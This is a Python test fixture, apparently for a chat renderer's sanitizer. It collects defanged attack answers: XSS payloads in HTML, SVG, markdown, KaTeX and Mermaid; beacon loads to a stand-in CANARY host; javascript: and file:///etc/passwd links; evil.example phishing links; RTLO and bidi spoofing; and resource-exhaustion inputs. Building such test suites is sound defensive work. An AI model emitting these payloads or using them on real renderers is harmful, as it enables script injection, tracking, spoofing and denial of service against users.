"""Answers that somebody might send to harm their reader; harmless here, they may show nothing but text.

``CANARY`` stands for the address of a server that nothing may ever ask for anything, ``FIRED`` for a script
that would be noticed if it ran.
"""

# ruff: noqa: E501 - an attack is read best in one line

__all__ = ["ANSWERS", "NAMES"]

FIRED = "window.top.__fired=1"

HTML = [
    "<script>FIRED</script>",
    '<script async src="CANARY/x.js"></script>',
    '<script type="module">import "CANARY/m.js"</script>',
    '<img src="CANARY/img" onerror="FIRED">',
    '<img src=x onerror=FIRED srcset="CANARY/set 2x">',
    '<iframe srcdoc="<script>parent.__fired=1</script>"></iframe>',
    '<iframe src="CANARY/frame"></iframe>',
    '<iframe src="javascript:FIRED"></iframe>',
    '<object data="CANARY/object"></object><embed src="CANARY/embed">',
    '<meta http-equiv="refresh" content="0;url=CANARY/meta">',
    '<base href="CANARY/">',
    '<link rel="stylesheet" href="CANARY/style.css" precedence="default">',
    '<link rel="preload" as="image" href="CANARY/preload"><link rel="dns-prefetch" href="CANARY">',
    "<style>@import url(CANARY/import.css); body { display: none }</style>",
    '<div style="position:fixed;inset:0;background:url(CANARY/css)">over everything</div>',
    '<form action="CANARY/form" id="f"><input name="x" autofocus onfocus="FIRED"><button form="f">go</button></form>',
    '<video poster="CANARY/poster" src="CANARY/video" autoplay onerror="FIRED"></video>',
    '<audio src="CANARY/audio" autoplay></audio><track src="CANARY/track">',
    '<details open ontoggle="FIRED"><summary>x</summary></details>',
    '<math><mtext><table><mglyph><style><img src=x onerror="FIRED"></style></mglyph></table></mtext></math>',
    "<noscript><p title=\"</noscript><img src=x onerror='FIRED'>\"></noscript>",
    '<template><script>FIRED</script></template><slot name="x"></slot>',
    '<a href="javascript:FIRED">click</a> <a href=" &#106;avascript:FIRED">click</a>',
    '<a href="CANARY/ping" ping="CANARY/ping">ping</a><portal src="CANARY/portal"></portal>',
    "<scr\n\nipt>FIRED</scr\n\nipt>",
    "<!--><script>FIRED</script>--><![CDATA[<script>FIRED</script>]]>",
    '<br onclick="FIRED"><br/><br style="background:url(CANARY/br)">',
    '<textarea autofocus onfocus="FIRED"></textarea><select onfocus="FIRED" autofocus></select>',
    '<marquee onstart="FIRED">x</marquee><body onload="FIRED"><frameset onload="FIRED">',
]
SVG = [
    '<svg onload="FIRED"><image href="CANARY/svg"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.__fired=1</script>"></iframe></foreignObject></svg>',
    '<svg><use href="CANARY/use.svg#x"/><animate onbegin="FIRED" attributeName="x" dur="1s"/></svg>',
    "```svg\n<svg xmlns='http://www.w3.org/2000/svg' onload='FIRED'><image href='CANARY/fence'/></svg>\n```",
    "```html\n<script>FIRED</script><img src='CANARY/fence2'>\n```",
]
LINKS = [
    "[click](javascript:FIRED)",
    "[click](JaVaScRiPt:FIRED) [click](java\tscript:FIRED) [click](&#x6A;avascript:FIRED)",
    "[click](data:text/html,<script>parent.__fired=1</script>)",
    "[click](vbscript:FIRED) [click](file:///etc/passwd) [click](blob:CANARY/x)",
    "<javascript:FIRED> <data:text/html;base64,PHNjcmlwdD4=>",
    "[a][evil]\n\n[evil]: javascript:FIRED\n",
    '[a](https://example.com "title\\" onmouseover=\\"FIRED")',
    "[a](https://example.com/\"onmouseover='FIRED')",
    "[https://bank.example](https://evil.example/login)",
    "[x](#footnote-%E0%A4%A) [y](#footnote-../../) [z](#note-1) [w](/logout) [v](//evil.example/x)",
    'claim[^<img src=x onerror=FIRED>] claim[^x"y]\n\n[^x"y]: <script>FIRED</script> [z](javascript:FIRED)\n',
]
IMAGES = [
    "![alt](CANARY/markdown)",
    "![alt][ref]\n\n[ref]: CANARY/reference",
    "![alt](CANARY/sized =100x100) ![](//127.0.0.1/protocol-relative) ![](/ping)",
    "![alt](data:image/svg+xml,<svg onload=FIRED>) ![x](javascript:FIRED)",
    "[![alt](CANARY/linked)](CANARY/link)",
    '![a](CANARY/t "x\\" onerror=\\"FIRED")',
    "| ![a](CANARY/in-a-table) |\n| --- |\n| ![b](CANARY/cell) |\n",
]
FORMULAS = [
    r"$$\href{javascript:FIRED}{x}$$ and $$\url{CANARY/url}$$",
    r"$$\includegraphics{CANARY/katex}$$",
    r"$$\htmlData{x=1}{y} \htmlStyle{background:url(CANARY/kstyle)}{z} \htmlClass{app}{a} \htmlId{root}{b}$$",
    r"$$\def\a{\a\a}\a$$ and $$\newcommand{\b}{\b\b}\b$$",
    r"$$\rule{100000em}{100000em}$$",
    r"$$\edef\x{\x\x}\x \unicode{x202E} \text{</annotation><script>FIRED</script>}$$",
    "$$" + r"\sqrt{" * 300 + "x" + "}" * 300 + "$$",
    "$" * 100_000,
    r"\[ " * 2_000,
]
DIAGRAMS = [
    '```mermaid\nflowchart LR\n  A["<img src=x onerror=FIRED>"] --> B["<script>FIRED</script>"]\n```',
    '```mermaid\nflowchart LR\n  A --> B\n  click A href "javascript:FIRED"\n  click B call alert("x")\n```',
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\n"
    "flowchart LR\n  A[\"<iframe srcdoc='<script>top.__fired=1</script>'></iframe>\"] --> B\n```",
    "```mermaid\n%%{init: {'themeCSS': '@import url(CANARY/mermaid.css); * { background: url(CANARY/css2) }'}}%%\n"
    "flowchart LR\n  A --> B\n```",
    "```mermaid\n%%{init: {'fontFamily': 'x;} body{background:url(CANARY/font)} a{'}}%%\nflowchart LR\n  A --> B\n```",
    "```mermaid\nflowchart LR\n  A --> B\n  classDef x fill:url(CANARY/fill),background:url(CANARY/bg)\n  class A x\n```",
    "```mermaid\nsequenceDiagram\n  participant A as <script>FIRED</script>\n  A->>A: $$\\htmlData{a=b}{<img src=x onerror=FIRED>}$$\n```",
    "```mermaid\nflowchart LR\n  A@{ img: 'CANARY/node.png', label: 'x' } --> B@{ icon: 'fa:x' }\n```",
    "```mermaid\n" + "flowchart LR\n" + "".join(f"  A{n} --> A{n + 1}\n" for n in range(5_000)) + "```",
]
TRICKS = [
    "Pay \u202e001$\u202c to \u2066alice\u2069, see [example.com\u202egpj.exe](https://evil.example/\u202egpj.exe)",
    "```python\nif access != 'user\u202e \u2066# only for admins\u2069 \u2066':\n    pass\n```",
    "Za\u0300\u0301\u0302\u0303" + "\u0300" * 5_000 + "lgo",
    "\u200b\u200d\ufeff\u00ad" * 5_000,
    "&lt;script&gt;FIRED&lt;/script&gt; &#60;img src=x onerror=FIRED&#62;",
    "\x1b]8;;CANARY\x07link\x1b]8;;\x07 \x00 \x07 \ufffe",
    ">" * 100_000 + " deep",
    "- " * 20_000 + "deep",
    "[" * 50_000 + "x" + "](y)" * 1_000,
    "*_" * 30_000 + "`" * 30_001 + "~" * 30_000,
    "| a | b |\n| --- | --- |\n" + "| x | <script>FIRED</script> |\n" * 5_000,
    "| a " * 5_000 + "|\n" + "| - " * 5_000 + "|\n",
    "x" * 300_000,
    "```python\n" + "y = '" + "z" * 200_000 + "'\n```",
    "# " + "heading " * 10_000,
    "".join(f"[^{n}]" for n in range(3_000)) + "\n\n" + "".join(f"[^{n}]: note\n" for n in range(1_000)),
    "<div>\n" * 3_000 + "</span>" * 3_000,
    "~~~~\nnever closed <script>FIRED</script>",
]

NAMES = [
    "<img src=x onerror=FIRED>",
    "model\u202egnp.exe",
    '"><script>FIRED</script>',
    "javascript:FIRED",
    "m" * 500,
]


def _armed(attack: str) -> str:
    return attack.replace("FIRED", FIRED)


ANSWERS = [_armed(each) for each in HTML + SVG + LINKS + IMAGES + FORMULAS + DIAGRAMS + TRICKS]
NAMES = [_armed(each) for each in NAMES]
